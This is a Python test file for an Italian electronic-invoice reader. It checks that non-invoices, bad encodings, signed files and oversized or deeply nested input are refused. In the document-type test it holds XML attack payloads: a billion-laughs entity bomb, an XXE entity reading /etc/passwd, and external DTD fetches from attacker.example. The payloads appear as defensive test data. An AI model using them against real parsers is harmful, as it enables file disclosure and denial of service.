"""Files that are handed in as electronic invoices and are something else, or want to do harm."""

import codecs
import time

import pytest

from bot.core.errors import BadInput
from bot.core.fatturapa import read
from bot.core.foreign_xml import tree
from bot.wording import LANGUAGES, say
from tests.fatture import body, fattura

INVOICE = read(fattura().encode())


def refusal(data):
    with pytest.raises(BadInput) as refused:
        read(data)
    assert all(say(refused.value.key, language, **refused.value.words) for language in LANGUAGES)
    return refused.value.key


def in_file(text, encoding, bom=b""):
    return bom + text.encode(encoding)


@pytest.mark.parametrize(
    "data",
    [
        in_file(fattura(), "utf-8", codecs.BOM_UTF8),
        in_file(fattura(declared="UTF-16"), "utf-16-le", codecs.BOM_UTF16_LE),
        in_file(fattura(declared="UTF-16"), "utf-16-be", codecs.BOM_UTF16_BE),
        in_file(fattura(declared="windows-1252"), "cp1252"),
        in_file(fattura().replace("\n", "\r\n"), "utf-8"),
        in_file("\r\n " + fattura(), "utf-8"),
        in_file(fattura(before="<!-- written by a program -->\n<?xml-stylesheet href='x.xsl'?>"), "utf-8"),
    ],
)
def test_an_invoice_is_the_same_in_every_encoding(data):
    assert read(data) == INVOICE


def test_an_invoice_that_says_it_is_latin_1_is_read_as_that():
    latin = fattura(declared="ISO-8859-1").replace("—", "-").encode("latin-1")
    assert read(latin).about == ("Progetto della pagina iniziale - perché è così",)


@pytest.mark.parametrize(
    ("data", "key"),
    [
        (b"", "invoice-empty"),
        (b" \r\n\t", "invoice-empty"),
        (codecs.BOM_UTF8, "invoice-empty"),
        (b"%PDF-1.7\n", "invoice-pdf"),
        (b"PK\x03\x04\x14\x00", "invoice-zip"),
        (b"<!DOCTYPE html><html></html>", "invoice-html"),
        (b"\n<HTML lang=it><body>Accedi</body></HTML>", "invoice-html"),
        (b'<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "x" "y"><html/>', "invoice-html"),
        (b"Numero;Data\n1;2026-11-24\n", "invoice-not-xml"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "invoice-not-xml"),
        (b"\x00\x01\x02\x03", "invoice-broken"),
        (b"<FatturaElettronica", "invoice-broken"),
        (b"<a><b></a></b>", "invoice-broken"),
        (b"<a>&nope;</a>", "invoice-broken"),
        (fattura().encode()[:900], "invoice-broken"),
        (fattura().encode() + b"<more/>", "invoice-broken"),
        (fattura(declared="UTF-8").encode("cp1252"), "invoice-encoding"),
        (fattura(declared="UTF-16").encode("utf-8"), "invoice-encoding"),
        (fattura(declared="EBCDIC-CP-IT").encode(), "invoice-encoding"),
        (fattura(declared="punycode").encode(), "invoice-encoding"),
        (fattura(declared="no-such-thing").encode(), "invoice-encoding"),
        (in_file(fattura(), "utf-16-le", codecs.BOM_UTF16_LE), "invoice-encoding"),
    ],
)
def test_what_is_no_readable_invoice_is_told_as_what_it_is(data, key):
    assert refusal(data) == key


# A CMS signature begins with its object identifier; DER with a known length, BER without one, or as text.
@pytest.mark.parametrize(
    "data",
    [
        bytes.fromhex("308205f106092a864886f70d010702a08205e2") + fattura().encode(),
        bytes.fromhex("308006092a864886f70d010702a080") + fattura().encode(),
        b"MIIF8QYJKoZIhvcNAQcCoIIF4jCCBd4CAQExDzANBg",
        b"-----BEGIN PKCS7-----\nMIIF8Q",
    ],
)
def test_a_signed_invoice_is_recognised_and_the_way_out_told(data):
    assert refusal(data) == "invoice-signed"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
        f'<!DOCTYPE x [<!ENTITY big "{"x" * 100_000}">]>',
        '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % far SYSTEM "http://attacker.example/x.dtd"> %far;]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        "<!DOCTYPE x>",
    ],
)
def test_a_document_type_is_refused_before_anything_of_it_is_done(doctype):
    assert refusal(fattura(before=doctype).encode()) == "invoice-unsafe"
    utf_16 = in_file(fattura(before=doctype, declared="UTF-16"), "utf-16-le", codecs.BOM_UTF16_LE)
    assert refusal(utf_16) == "invoice-unsafe"


def test_a_file_of_ten_megabytes_is_refused_unread():
    started = time.perf_counter()
    assert refusal(fattura().encode() + b" " * 10_000_000) == "invoice-large"
    assert time.perf_counter() - started < 0.1


@pytest.mark.parametrize("levels", [33, 100_000])
def test_elements_within_elements_stop_where_no_invoice_goes(levels):
    assert refusal(b"<a>" * levels + b"</a>" * levels) == "invoice-absurd"


def test_elements_without_end_stop_where_no_invoice_goes():
    assert refusal(b"<a>" + b"<b/>" * 300_000 + b"</a>") == "invoice-absurd"


def test_a_large_invoice_is_read_in_a_moment():
    line = "<DettaglioLinee><Descrizione>Riga</Descrizione><PrezzoTotale>1.00</PrezzoTotale></DettaglioLinee>"
    attached = f"<Allegati><Attachment>{'QUJD' * 500_000}</Attachment></Allegati>"
    long = body().replace("<DatiRiepilogo>", f"{line * 10_000}<DatiRiepilogo>")
    data = fattura(long.replace("</FatturaElettronicaBody>", f"{attached}</FatturaElettronicaBody>")).encode()
    started = time.perf_counter()
    assert read(data).total_cents == INVOICE.total_cents
    assert time.perf_counter() - started < 2


def test_tags_come_without_their_namespaces():
    root = tree(b'<x:a xmlns:x="urn:x" versione="1"><x:b/><c/></x:a>')
    assert (root.tag, [each.tag for each in root], root.get("versione")) == ("a", ["b", "c"], "1")
